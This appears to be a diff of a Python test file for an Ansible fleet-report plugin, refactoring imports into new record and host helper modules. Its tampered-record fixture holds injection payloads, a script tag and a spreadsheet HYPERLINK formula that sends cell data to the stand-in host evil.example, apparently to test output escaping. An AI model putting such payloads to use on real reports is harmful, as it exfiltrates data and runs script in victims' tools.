@@ -23,6 +23,8 @@ if __name__ == '__main__':
 
 from ansible_collections.cifleet.gotime.plugins.filter import fleet_report as filters  # noqa: E402
 from ansible_collections.cifleet.gotime.plugins.plugin_utils import _fleet_report as fr  # noqa: E402
+from ansible_collections.cifleet.gotime.plugins.plugin_utils import _fleet_report_hosts as fhost  # noqa: E402
+from ansible_collections.cifleet.gotime.plugins.plugin_utils import _fleet_report_record as frec  # noqa: E402
 from lab import fleet_synthetic as fs  # noqa: E402
 
 
@@ -39,12 +41,12 @@ def tampered_record():
     clock['certificates'][0].update(subject='<script>alert(1)</script>' + esc, seconds_until_expiry='soon')
     go = fs.go_result('ok_insecure')
     go['env']['GOPROXY'] = '=HYPERLINK("http://evil.example/?"&A1,"x"),direct'
-    return fr.make_record(result, go, origin='pull', recorder='agent-tampered\x07', now='2026-11-27T17:00:00Z',
-                          time_servers=['ntp.corp.example'])
+    return frec.make_record(result, go, origin='pull', recorder='agent-tampered\x07', now='2026-11-27T17:00:00Z',
+                            time_servers=['ntp.corp.example'])
 
 
 def fixture_records():
-    records = fs.records(48, fr.make_record)
+    records = fs.records(48, frec.make_record)
     records['agent-tampered'] = tampered_record()
     records['agent-never-seen'] = None
     for record in records.values():
@@ -78,7 +80,7 @@ def test_golden_files_cover_every_state():
     # The fixture fleet is worth comparing: every report state, MDM state and a cut value appear in it.
     with open(golden_path('json'), encoding='utf-8') as handle:
         text = handle.read()
-    for state in fr.STATES[:-1] + fr.MDM_STATES[:2] + fr.MDM_STATES[3:]:
+    for state in fhost.STATES[:-1] + fhost.MDM_STATES[:2] + fhost.MDM_STATES[3:]:
         assert '"%s"' % state in text, state
     assert '[cut: ' in text
 
